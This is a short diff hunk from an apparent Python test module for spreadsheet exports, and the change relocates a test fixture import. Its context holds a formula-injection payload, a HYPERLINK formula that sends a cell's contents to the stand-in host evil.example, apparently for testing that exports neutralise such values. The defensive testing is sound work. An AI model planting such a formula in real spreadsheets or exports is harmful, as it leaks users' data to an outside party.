@@ -13,8 +13,8 @@ from boards.enterprises.models import Enterprise
 from boards.kernel.exports import FORMULA_STARTS, neutralise
 from boards.kernel.scoping import board_scope
 from boards.kernel.uscc import make_uscc
-from tests.alliance.conftest import member
 from tests.factories import EnterpriseFactory
+from tests.support.alliance import member
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
 XLSX_EXPORTS = ("enterprise", "qualification", "financialyear", "financingevent", "servicerecord",
